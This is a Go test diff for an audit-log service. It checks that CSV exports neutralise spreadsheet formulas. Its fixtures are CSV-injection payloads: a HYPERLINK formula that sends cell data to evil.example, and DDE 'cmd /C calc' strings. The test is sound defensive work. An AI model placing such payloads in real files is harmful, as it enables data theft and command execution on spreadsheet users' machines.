@@ -612,6 +612,83 @@ func TestQueryFormats(t *testing.T) {
 	}
 }
 
+// TestCSVNeutralisesFormulas: format=csv wrote submitters' text as
+// recorded, and a cell beginning with =, +, - or @ opened as a formula in
+// a spreadsheet (the answer is a download, events.csv). Such a cell is now
+// prefixed with a single quote; csv_raw=true writes the values exactly,
+// and csv_raw is validated like every other parameter.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	qs := newQueryServer(t)
+	formulas := map[string]string{ // column: value
+		"actor_id":    `=HYPERLINK("http://evil.example/?"&A1,"open")`,
+		"reason":      `+cmd|' /C calc'!A0`,
+		"resource_id": `-2+3+cmd|' /C calc'!A0`,
+		"user_agent":  `@SUM(1+1)*cmd|' /C calc'!A0`,
+	}
+	ev := event(1)
+	edit(ev, "actor.id", formulas["actor_id"])
+	edit(ev, "outcome", "failure")
+	edit(ev, "reason", formulas["reason"])
+	edit(ev, "resource.type", "doc")
+	edit(ev, "resource.id", formulas["resource_id"])
+	edit(ev, "source.user_agent", formulas["user_agent"])
+	plain := edit(event(2), "source.user_agent", "curl/8.5 =not-first")
+	if r := qs.testServer.post(t, "application/json", batchJSON(mustJSON(t, ev), mustJSON(t, plain))); r.status != http.StatusCreated {
+		t.Fatalf("POST = %v", r)
+	}
+	ctx, cancel := context.WithTimeout(bg, 30*time.Second)
+	defer cancel()
+	if err := qs.x.Wait(ctx, 2); err != nil {
+		t.Fatal(err)
+	}
+	page := qs.page(t, "limit=2")
+	csvRows := func(query string) [][]string {
+		t.Helper()
+		r := qs.get(t, "/v1/events?format=csv"+query, qs.auditor())
+		if r.status != http.StatusOK {
+			t.Fatalf("GET format=csv%s = %v", query, r)
+		}
+		rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+		if err != nil || len(rows) != 3 {
+			t.Fatalf("GET format=csv%s: %d rows, %v", query, len(rows), err)
+		}
+		return rows
+	}
+	for _, tc := range []struct {
+		query string
+		raw   bool
+	}{{"", false}, {"&csv_raw=false", false}, {"&csv_raw=true", true}} {
+		rows := csvRows(tc.query)
+		col := map[string]int{}
+		for k, name := range rows[0] {
+			col[name] = k
+		}
+		for name, v := range formulas {
+			want := "'" + v
+			if tc.raw {
+				want = v
+			}
+			if got := rows[1][col[name]]; got != want {
+				t.Errorf("format=csv%s: %s = %q, want %q", tc.query, name, got, want)
+			}
+		}
+		if got := rows[2][col["user_agent"]]; got != "curl/8.5 =not-first" {
+			t.Errorf("format=csv%s: a plain user_agent = %q, want it as recorded", tc.query, got)
+		}
+		for k, e := range page.Events { // the hash stays exact, whatever it begins with
+			if got := rows[k+1][col["leaf_hash"]]; got != e.LeafHash {
+				t.Errorf("format=csv%s: leaf_hash %q, want %q", tc.query, got, e.LeafHash)
+			}
+		}
+	}
+	for _, q := range []string{
+		"/v1/events?format=csv&csv_raw=yes", "/v1/events?format=csv&csv_raw=", "/v1/events?format=csv&csv_raw=true&csv_raw=true",
+		"/v1/events?format=ndjson&csv_raw=true", "/v1/events?csv_raw=true", "/v1/events/count?csv_raw=true",
+	} {
+		wantError(t, "GET "+q, qs.get(t, q, qs.auditor()), http.StatusBadRequest)
+	}
+}
+
 func TestEvidenceEndpoint(t *testing.T) {
 	qs := newQueryServer(t)
 	evs := qevents(0, 700)
